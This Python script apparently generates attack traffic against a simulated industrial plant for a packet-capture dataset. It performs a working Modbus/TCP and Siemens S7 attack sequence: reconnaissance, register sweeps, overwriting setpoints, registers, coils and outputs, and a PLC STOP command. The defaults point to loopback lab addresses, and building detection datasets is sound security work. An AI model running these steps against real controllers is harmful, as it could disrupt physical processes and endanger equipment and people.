#!/usr/bin/env python3
"""An intruder on the simulated plant's network (used by make-captures.sh
for baseline_attack.pcap): Modbus/TCP with pymodbus 3.x, S7 with the native
Snap7 client (python-snap7 2.x).

usage: plant_attacker.py [--modbus-plc H] [--s7-plc H] [--source A]
                         [--delay S] [--gap S]

After --delay seconds, one step every --gap seconds (one second more after
the sweep), each over its own TCP connection:

  1 device_identification  Modbus FC43/14 read device identification,
                           basic (read code 1) then regular (read code 2)
  2 register_sweep         Modbus FC3 holding registers 0-1999 in 20 reads
                           of 100 (the PLC answers 0-999, then exception 02)
  3 write_registers        Modbus FC16 holding registers 0-3 := 9999
  4 write_coils            Modbus FC15 coils 0-7 := off, then FC5 coil 4 := on
  5 write_db               S7 write_var DB1.DBW12 (level setpoint) := 9999
  6 write_flags            S7 write_var MB0 := 0x00
  7 write_outputs          S7 write_var QB0 := 0xFF
  8 plc_stop               S7 PLC STOP

--source is the address the Modbus client binds to; make-captures.sh runs
this program with the bind_source LD_PRELOAD shim and BIND_SOURCE_ADDR set
to the same address for the Snap7 connections.  Exits 2 if a step fails.
"""
import argparse
import logging
import os
import struct
import sys
import time

import snap7
from pymodbus.client import ModbusTcpClient
from pymodbus.pdu import ExceptionResponse

failures = []


def main():
    ap = argparse.ArgumentParser()
    ap.add_argument("--modbus-plc", default="127.0.0.10")
    ap.add_argument("--modbus-port", type=int, default=502)
    ap.add_argument("--s7-plc", default="127.0.0.20")
    ap.add_argument("--s7-port", type=int, default=102)
    ap.add_argument("--source", default="127.0.0.66")
    ap.add_argument("--delay", type=float, default=40.0)
    ap.add_argument("--gap", type=float, default=4.0)
    args = ap.parse_args()
    logging.basicConfig(level=logging.ERROR)
    if os.environ.get("BIND_SOURCE_ADDR") != args.source:
        print(f"warning: BIND_SOURCE_ADDR is not {args.source}; S7 connections will use the default source",
              file=sys.stderr)
    t0 = time.monotonic()

    def say(what):
        print(f"{time.monotonic() - t0:8.3f} {what}", file=sys.stderr, flush=True)

    def modbus(step, what, requests):
        client = ModbusTcpClient(args.modbus_plc, port=args.modbus_port, source_address=(args.source, 0),
                                 timeout=2, retries=0)
        if not client.connect():
            failures.append(step)
            say(f"step {step} {what}: FAILED, cannot connect")
            return
        say(f"step {step} {what}: modbus {client.socket.getsockname()[0]} -> {args.modbus_plc}")
        for label, fn in requests:
            try:
                rr = fn(client)
            except Exception as exc:  # a step without an answer is a failed step
                failures.append(step)
                say(f"  {label}: FAILED {exc}")
                continue
            if isinstance(rr, ExceptionResponse):
                say(f"  {label}: exception {rr.exception_code}")
            else:
                text = getattr(rr, "information", None) or getattr(rr, "registers", None) or rr
                say(f"  {label}: ok {str(text)[:100]}")
            time.sleep(0.1)
        client.close()

    def s7(step, what, fn):
        client = snap7.client.Client()
        try:
            client.connect(args.s7_plc, 0, 1, args.s7_port)
            say(f"step {step} {what}: s7 -> {args.s7_plc}")
            fn(client)
            say(f"  {what}: ok")
        except Exception as exc:  # snap7 2.x raises RuntimeError
            failures.append(step)
            say(f"  {what}: FAILED {exc}")
        finally:
            client.disconnect()
            client.destroy()

    def sweep(start):
        return (f"FC3 HR {start}-{start + 99}",
                lambda c, s=start: c.read_holding_registers(s, count=100, device_id=1))

    plan = [
        (1, "device_identification", lambda: modbus(1, "device_identification", [
            ("FC43/14 basic", lambda c: c.read_device_information(read_code=1, object_id=0, device_id=1)),
            ("FC43/14 regular", lambda c: c.read_device_information(read_code=2, object_id=0, device_id=1)),
        ])),
        (2, "register_sweep", lambda: modbus(2, "register_sweep", [sweep(a) for a in range(0, 2000, 100)])),
        (3, "write_registers", lambda: modbus(3, "write_registers", [
            ("FC16 HR 0-3 := 9999", lambda c: c.write_registers(0, [9999] * 4, device_id=1)),
        ])),
        (4, "write_coils", lambda: modbus(4, "write_coils", [
            ("FC15 coils 0-7 := off", lambda c: c.write_coils(0, [False] * 8, device_id=1)),
            ("FC5 coil 4 := on", lambda c: c.write_coil(4, True, device_id=1)),
        ])),
        (5, "write_db", lambda: s7(5, "write_var DB1.DBW12 := 9999",
                                   lambda c: c.db_write(1, 12, bytearray(struct.pack(">h", 9999))))),
        (6, "write_flags", lambda: s7(6, "write_var MB0 := 0x00", lambda c: c.mb_write(0, 1, bytearray(b"\x00")))),
        (7, "write_outputs", lambda: s7(7, "write_var QB0 := 0xFF", lambda c: c.ab_write(0, bytearray(b"\xff")))),
        (8, "plc_stop", lambda: s7(8, "PLC STOP", lambda c: c.plc_stop())),
    ]
    at = args.delay
    for step, _what, run in plan:
        time.sleep(max(0.0, t0 + at - time.monotonic()))
        run()
        at += args.gap + (1.0 if step == 2 else 0.0)
    say(f"attacker done, {len(failures)} failed step(s): {failures}")
    return 2 if failures else 0


if __name__ == "__main__":
    sys.exit(main())
